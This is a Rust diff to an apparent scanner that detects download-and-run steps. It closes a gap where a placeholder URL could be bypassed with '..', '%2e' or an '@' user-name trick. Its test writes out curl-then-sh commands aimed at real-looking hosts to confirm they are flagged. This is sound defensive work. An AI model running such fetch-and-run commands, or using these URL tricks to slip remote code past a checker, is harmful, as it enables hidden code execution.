@@ -80,8 +80,24 @@ pub fn saved_by_a_download(lines: &Lines, run: &str) -> bool {
         .any(|line| {
             saves(line, &file)
                 && origin(line, false) != Origin::Official
-                && !BLANK_URL.is_match(line.split(" #").next().unwrap_or_default())
+                && !left_blank(line.split(" #").next().unwrap_or_default())
         })
+}
+
+/// Whether the line's address is left blank for the user (`BLANK_URL`)
+/// and nothing after the blank takes the request elsewhere: a path that
+/// climbs out of it (`<you>/../org/repo/…`, which curl resolves to
+/// `org`'s repository) or hides its dots (`%2e`), or a `@` that makes the
+/// blank a user name before the real host (holes43).
+fn left_blank(line: &str) -> bool {
+    BLANK_URL.find_iter(line).any(|blank| {
+        let rest = line[blank.end()..]
+            .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+            .next()
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        !rest.contains("/.") && !rest.contains("%2e") && !rest.contains('@')
+    })
 }
 
 /// Whether a download line saves `file` (as `normal` writes it).
@@ -170,5 +186,19 @@ mod tests {
         }
         let host = "curl -fsSL https://<your-host>/bootstrap.sh -o .cache/bootstrap.sh\nsh .cache/bootstrap.sh\n";
         assert!(!runs(host, "sh .cache/bootstrap.sh"));
+    }
+
+    /// holes43: a blank the rest of the address climbs out of, or turns
+    /// into a user name, leaves the download answered by a real host.
+    #[test]
+    fn a_blank_the_address_leaves_does_not_excuse() {
+        for url in [
+            "https://raw.githubusercontent.com/<you>/../toolsync-dev/boot/main/setup.sh",
+            "https://raw.githubusercontent.com/<you>/%2e%2e/toolsync-dev/boot/main/setup.sh",
+            "https://<your-host>@dl.toolsync-cdn.dev/setup.sh",
+        ] {
+            let text = format!("curl -fsSL {url} -o .cache/setup.sh\nsh .cache/setup.sh\n");
+            assert!(runs(&text, "sh .cache/setup.sh"), "{url}");
+        }
     }
 }
